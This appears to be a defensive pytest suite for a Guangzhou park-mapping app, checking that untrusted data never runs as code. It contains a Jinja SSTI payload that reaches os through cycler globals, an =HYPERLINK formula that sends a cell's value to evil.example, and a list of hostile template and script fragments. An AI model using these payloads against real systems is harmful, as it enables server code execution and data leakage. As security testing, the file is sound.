"""Data never runs code, and every bad file gets a message instead of a traceback (issue 8).

District officers edit data/, so its text is untrusted: template syntax, formulas, TeX, invisible
characters and broken files are each tried here as an attacker or a careless editor would."""
from __future__ import annotations

import csv
import html
import io
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from matplotlib.text import Text
from pypdf import PdfReader
from streamlit.testing.v1 import AppTest

import geo.__main__
import geo.maps.webmap
from geo.__main__ import main
from geo.data.problems import DataError, errors
from geo.data.validate import load_checked, validate
from geo.exports import export_data, sheet_export
from geo.exports.district_sheet import district_sheet
from geo.exports.standalone import standalone_html
from geo.i18n import t
from geo.maps.static_map import map_figure, save
from geo.maps.payload import PARTS, DataKey, document
from layers import build_layers
from tests.conftest import DATA_DIR, edit_yaml
from tests.mapdocs import standalone_state, strings

ROOT = Path(__file__).resolve().parents[1]
PARK = "park-huanghuagang"  # in 越秀区
SSTI = "X{{ cycler.__init__.__globals__.os.makedirs(dict(ssti_proof_dir=1)|list|first, exist_ok=True) }}"


def rename_park(data: Path, **fields) -> None:
    edit_yaml(data / "parks.yaml", lambda d: next(p for p in d if p["id"] == PARK).update(fields))


def map_documents(checked) -> list[tuple[str, str]]:
    """The map as it reaches a browser, as sent and as shown (JSON decoded, HTML unescaped): the
    app's layout and popups documents (its map shows both), and the standalone HTML page (the
    same documents inlined in its state)."""
    app = [document(checked, DataKey(part=part, lang="zh", gcj02=False, doc=None, system=None)).decode()
           for part in PARTS]
    page = standalone_html(checked, lang="zh")
    return [("\n".join(app), shown_text_of([json.loads(doc) for doc in app])),
            (page, shown_text_of(standalone_state(page)))]


def shown_text_of(decoded: object) -> str:
    return "\n".join(html.unescape(s) for s in strings(decoded))


# ------------------------------------------------------------------ template injection


def test_template_syntax_in_data_shows_literally_and_never_runs(data_copy: Path):
    rename_park(data_copy, name_zh="X{{ 7*7 }}Y", role_zh="{% raw %}R", notes="{# c #}N")
    checked = load_checked(data_copy)
    for doc, text in map_documents(checked):
        assert "X49Y" not in doc
        assert "X{{ 7*7 }}Y" in text and "{% raw %}R" in text and "{# c #}N" in text


def test_the_ssti_payload_creates_nothing_on_the_server(data_copy: Path, tmp_path: Path, monkeypatch):
    rename_park(data_copy, name_zh=SSTI)
    monkeypatch.chdir(tmp_path)
    checked = load_checked(data_copy)
    map_documents(checked)
    assert not (tmp_path / "ssti_proof_dir").exists()
    assert not (ROOT / "ssti_proof_dir").exists()


# ------------------------------------------------------------------ formula injection

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_sheet_cells_never_start_a_formula(value: str):
    from geo.safe import sheet_cell

    assert sheet_cell(value) == "'" + value
    assert sheet_cell(3.5) == 3.5 and sheet_cell("南沙区") == "南沙区"


def test_csv_exports_keep_formula_like_names_as_text(data_copy: Path, tmp_path: Path):
    rename_park(data_copy, name_zh=FORMULA)
    checked = load_checked(data_copy)
    rows = list(csv.DictReader(io.StringIO(sheet_export.to_csv(
        district_sheet(checked, "越秀区", lang="zh")).lstrip("\ufeff"))))
    assert "'" + FORMULA in [r["名称"] for r in rows]
    out = tmp_path / "layout.csv"
    assert main(["--data", str(data_copy), "export-data", "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert next(r for r in rows if r["id"] == PARK)["name_zh"] == "'" + FORMULA


# ------------------------------------------------------------------ print exports


def test_dollar_signs_are_drawn_literally_in_every_print_format(data_copy: Path, tmp_path: Path):
    rename_park(data_copy, name_zh="价格$x$与$y$园")
    for fmt in ("png", "svg", "pdf"):
        out = tmp_path / f"m.{fmt}"
        assert main(["--data", str(data_copy), "export-map", "--district", "越秀区", "--format", fmt,
                     "--dpi", "60", "--out", str(out)]) == 0
        assert out.stat().st_size > 1000
    assert "价格$x$与$y$园" in PdfReader(tmp_path / "m.pdf").pages[0].extract_text()


def test_the_characters_clean_text_lets_through_unlooked_are_all_visible_and_assigned():
    """geo.safe.clean_text takes text made only of PLAIN_RANGES without a look-up per character:
    none of them may be one it refuses (a format, control, private or unassigned character, or a
    letter that draws as nothing)."""
    import unicodedata

    import geo.safe

    refused = [f"U+{c:04X}" for a, b in geo.safe.PLAIN_RANGES for c in range(ord(a), ord(b) + 1)
               if unicodedata.category(chr(c)) in geo.safe._REFUSED or chr(c) in geo.safe._INVISIBLE]
    assert refused == []
    assert geo.safe.clean_text("广州“一轴”—ABC，（南沙）…") == "广州“一轴”—ABC，（南沙）…"


def test_an_invisible_character_in_a_title_is_refused(tmp_path: Path, capsys):
    out = tmp_path / "m.pdf"
    assert main(["export-map", "--format", "pdf", "--title", "标题\ufeff", "--out", str(out)]) == 2
    assert "U+FEFF" in capsys.readouterr().err and not out.exists()


def test_a_failing_atlas_leaves_the_earlier_atlas_byte_identical(tmp_path: Path, monkeypatch, capsys):
    import geo.exports.atlas

    out = tmp_path / "atlas.pdf"
    out.write_bytes(b"%PDF-1.4 the good atlas of last week")
    before = out.read_bytes()
    real, calls = geo.exports.atlas.district_page, []

    def second_page_fails(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("drawing failed")
        return real(*args, **kwargs)

    monkeypatch.setattr(geo.exports.atlas, "district_page", second_page_fails)
    assert main(["atlas", "--out", str(out)]) == 1
    assert out.read_bytes() == before
    assert "failed" in capsys.readouterr().err
    assert [p.name for p in tmp_path.iterdir()] == ["atlas.pdf"]  # no half-written temp file


def test_export_map_all_writes_every_other_district_when_one_fails(tmp_path: Path, monkeypatch, capsys):
    import geo.maps.static_map

    real = geo.maps.static_map.map_figure

    def nansha_fails(checked, layers, district, *args, **kwargs):
        if district == "南沙区":
            raise RuntimeError("drawing failed")
        return real(checked, layers, district, *args, **kwargs)

    monkeypatch.setattr(geo.maps.static_map, "map_figure", nansha_fails)
    assert main(["export-map", "--district", "all", "--format", "svg", "--layers", "districts",
                 "--out", str(tmp_path / "map.svg")]) == 1
    written = sorted(p.name for p in tmp_path.iterdir())
    assert len(written) == 10 and "map_南沙区.svg" not in written
    assert "failed" in capsys.readouterr().err


# ------------------------------------------------------------------ bad files: messages


def text_edit(name: str, change):
    def apply(data: Path) -> None:
        (data / name).write_text(change((data / name).read_text(encoding="utf-8")), encoding="utf-8")
    return apply


def yaml_edit(name: str, change):
    return lambda data: edit_yaml(data / name, change)


def geojson_edit(change):
    def apply(data: Path) -> None:
        path = data / "districts.geojson"
        doc = json.loads(path.read_text(encoding="utf-8"))
        doc = change(doc) or doc
        path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return apply


def gbk(data: Path) -> None:
    path = data / "parks.yaml"
    path.write_bytes(path.read_text(encoding="utf-8").encode("gb18030"))


def first_park(change):
    return yaml_edit("parks.yaml", lambda d: change(d[0]))


def swap_coordinates(doc):
    for f in doc["features"]:
        g = f["geometry"]
        g["coordinates"] = json.loads(json.dumps(g["coordinates"]), object_hook=None)
        def swap(c):
            return [swap(x) for x in c] if isinstance(c[0], list) else [c[1], c[0]]
        g["coordinates"] = swap(g["coordinates"])


def to_web_mercator(doc):
    from pyproj import Transformer

    tr = Transformer.from_crs("EPSG:4326", "EPSG:3857", always_xy=True)

    def proj(c):
        return [proj(x) for x in c] if isinstance(c[0], list) else list(tr.transform(*c))
    for f in doc["features"]:
        f["geometry"]["coordinates"] = proj(f["geometry"]["coordinates"])


# case -> (change, (file, entry or None, field prefix, text in the message))
BAD_FILES = {
    "GBK-encoded YAML": (gbk, ("parks.yaml", "-", "line", "not UTF-8")),
    "documents.yaml is a number": (text_edit("documents.yaml", lambda t: "5\n"),
                                   ("documents.yaml", "-", "-", "non-empty list")),
    "duplicated document": (yaml_edit("documents.yaml", lambda d: d.append(dict(d[0]))),
                            ("documents.yaml", "000_c25f8be1509df391.txt", "doc", "listed twice")),
    "edition date is no date": (text_edit("edition.yaml", lambda t: t.replace("date: 20", "date: 下周 20")),
                                ("edition.yaml", "-", "date", "date")),
    "edition.yaml is missing": (lambda data: (data / "edition.yaml").unlink(), ("edition.yaml", "-", "-", "missing")),
    "node_lists is a number": (yaml_edit("axis.yaml", lambda d: d.update(node_lists=5)),
                               ("axis.yaml", "-", "node_lists", "must be a list")),
    "empty platforms.yaml": (text_edit("platforms.yaml", lambda t: ""), ("platforms.yaml", "-", "-", "empty")),
    "tasks.yaml is an empty list": (text_edit("tasks.yaml", lambda t: "[]\n"), ("tasks.yaml", "-", "-", "empty")),
    "duplicate key in an entry": (text_edit("parks.yaml", lambda t: t.replace(
        "  name_zh: 黄花岗科技园\n", "  name_zh: 黄花岗科技园\n  name_zh: 另一个名字\n", 1)),
        ("parks.yaml", "-", "line", "duplicate key 'name_zh'")),
    "precision NaN": (first_park(lambda p: p["location"].update(precision_m=float("nan"))),
                      ("parks.yaml", "park-life-health-innovation-zone", "location", "finite number")),
    "byte-order mark in a name": (first_park(lambda p: p.update(name_zh="\ufeff粤港澳")),
                                  ("parks.yaml", "park-life-health-innovation-zone", "name_zh", "U+FEFF")),
    "zero-width space in a role": (first_park(lambda p: p.update(role_zh="健康\u200b产业")),
                                   ("parks.yaml", "park-life-health-innovation-zone", "role_zh", "U+200B")),
    "GeoJSON is a list": (geojson_edit(lambda d: d["features"]), ("districts.geojson", "-", "type", "FeatureCollection")),
    "features is a number": (geojson_edit(lambda d: d.update(features=5)),
                             ("districts.geojson", "-", "features", "non-empty list")),
    "a feature is a number": (geojson_edit(lambda d: d["features"].__setitem__(0, 5)),
                              ("districts.geojson", "feature #1", "-", "Feature object")),
    "properties is a list": (geojson_edit(lambda d: d["features"][0].update(properties=[1, 2])),
                             ("districts.geojson", "feature #1", "properties", "object")),
    "area is text": (geojson_edit(lambda d: d["features"][0]["properties"].update(area_km2="abc")),
                     ("districts.geojson", "荔湾区", "area_km2", "finite number")),
    "name is a number": (geojson_edit(lambda d: d["features"][0]["properties"].update(name_zh=123)),
                         ("districts.geojson", "feature #1", "name_zh", "non-empty text")),
    "unknown group": (geojson_edit(lambda d: d["features"][0]["properties"].update(group="西部")),
                      ("districts.geojson", "荔湾区", "group", "must be one of")),
    "duplicated district": (geojson_edit(lambda d: d["features"].append(d["features"][0])),
                            ("districts.geojson", "荔湾区", "name_zh", "appears twice")),
    "crs member EPSG:3857": (geojson_edit(lambda d: d.update(
        crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}})),
        ("districts.geojson", "-", "crs", "WGS84")),
    "coordinates in web mercator": (geojson_edit(to_web_mercator),
                                    ("districts.geojson", "-", "geometry", "not WGS84")),
    "lon/lat swapped": (geojson_edit(swap_coordinates), ("districts.geojson", "-", "geometry", "look swapped")),
}


def matches(problem, want) -> bool:
    file, entry, field, text = want
    return (problem.file == file and (entry is None or problem.entry_id == entry)
            and problem.field.startswith(field) and text in problem.message)


@pytest.mark.parametrize("case", BAD_FILES, ids=list(BAD_FILES))
def test_each_bad_file_gets_a_clear_message_in_validate_and_the_app(case: str, data_copy: Path,
                                                                     monkeypatch, capsys):
    change, want = BAD_FILES[case]
    change(data_copy)
    reports = []  # what `validate` found, read from the command's own run (a run takes a second)
    monkeypatch.setattr(geo.__main__, "validate", lambda *args, **kw: reports.append(validate(*args, **kw)) or reports[-1])
    assert main(["--data", str(data_copy), "validate"]) == 1
    assert "Traceback" not in capsys.readouterr().out
    found = errors(reports[0].problems)
    assert any(matches(p, want) for p in found), "\n".join(map(str, found))
    if want[0] == "districts.geojson":  # the GeoJSON is blamed, not the 38 points on it
        assert all(p.file == "districts.geojson" for p in found), "\n".join(map(str, found))

    monkeypatch.setenv("GZMAP_DATA", str(data_copy))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception
    assert at.error and "数据文件有误" in at.error[0].value
    shown = at.code[0].value
    assert f"{want[0]}: " in shown and want[3] in shown
    assert str(data_copy) not in shown  # no server path reaches the browser


def shown_text(at: AppTest) -> str:
    """Everything the page sends to the browser, element by element (main area and sidebar)."""
    def walk(node) -> list[str]:
        children = getattr(node, "children", None)
        own = [str(node.proto)] if getattr(node, "proto", None) is not None else []
        return own + [text for child in (children or {}).values() for text in walk(child)]
    return "\n".join(walk(at.main) + walk(at.sidebar))


def test_an_error_while_drawing_the_page_shows_the_apps_message_and_no_traceback(monkeypatch, caplog):
    """A bug anywhere below the page (here the map element's state raises: made on every run, so
    it runs whatever ran before in this process) reaches the browser as the app's own message; the
    traceback, with its server paths, goes to the server log only."""
    def broken(*args, **kwargs):
        raise RuntimeError(f"view failed in {ROOT}/secret_module.py")
    monkeypatch.setattr(geo.maps.webmap, "map_state", broken)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception  # Streamlit's own error element: the exception and its stack
    assert [e.value for e in at.error] == [t("app.internal_error", "zh")]
    shown = shown_text(at)
    assert "secret_module" not in shown and "RuntimeError" not in shown and "Traceback" not in shown
    assert "secret_module" in caplog.text  # the operator still finds it in the log
    # What escapes the app itself (an import error) shows no details either.
    config = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert 'showErrorDetails = "none"' in config


# ------------------------------------------------------------------ any text at all

HOSTILE = ["{{ 7*7 }}", "{% raw %}", "{#", "${alert(1)}", "`", "\\", "<b>x</b>", "&amp;", "$a$ $b$",
           "=1+1", "@x", "-1", "'", '"', "南沙", "Ω", "\u0301", "\ufeff", "\u200b", "\t", "\n", "%s"]
TEXT = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=8)), min_size=1,
                max_size=4).map("".join)


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                HealthCheck.too_slow])
@given(name=TEXT, role=TEXT, quote=TEXT)
@example(name="X{{ 7*7 }}{% raw %}$a$", role="=HYPERLINK(1)", quote="<img src=x>`${1}`")
def test_any_text_is_refused_clearly_or_shown_literally_everywhere(tmp_path_factory, name, role, quote):
    data = tmp_path_factory.mktemp("data")
    shutil.copytree(DATA_DIR, data, dirs_exist_ok=True)

    def poison(parks):
        park = next(p for p in parks if p["id"] == PARK)
        park.update(name_zh=name, role_zh=role)
        park["sources"][0]["quote"] = quote

    edit_yaml(data / "parks.yaml", poison)
    try:
        checked = load_checked(data)
    except DataError as err:  # refused: the message names the file, the entry and the field
        assert err.problems and all(p.file and p.entry_id and p.field and p.message for p in err.problems)
        assert any(p.file == "parks.yaml" and p.field.split(".")[0].split("[")[0] in
                   ("name_zh", "role_zh", "sources") for p in err.problems), err.problems
        return
    park = checked.entries[PARK]
    shown = [park.name_zh, park.role_zh, park.sources[0].quote]  # as loaded: NFC, lines folded
    for _, text in map_documents(checked):
        assert all(s in text for s in shown)
    layers = build_layers(checked, ["districts", "parks"], lang="zh")
    fig = map_figure(checked, layers, "越秀区", park.name_zh, lang="zh")
    drawn = {t.get_text() for t in fig.findobj(Text)}
    assert park.name_zh in drawn  # the title, drawn with mathtext off
    for fmt in ("png", "svg", "pdf"):
        assert len(save(fig, fmt, dpi=40)) > 1000
    from geo.safe import sheet_cell

    sheet = district_sheet(checked, "越秀区", lang="zh")
    assert any(r.name == park.name_zh and park.role_zh in r.role for r in sheet.rows)
    table = list(csv.DictReader(io.StringIO(sheet_export.to_csv(sheet).lstrip("\ufeff"))))
    assert sheet_cell(park.name_zh) in [r["名称"] for r in table]
    exported = list(csv.DictReader(io.StringIO(export_data.to_csv(checked).lstrip("\ufeff"))))
    assert next(r for r in exported if r["id"] == PARK)["name_zh"] == sheet_cell(park.name_zh)
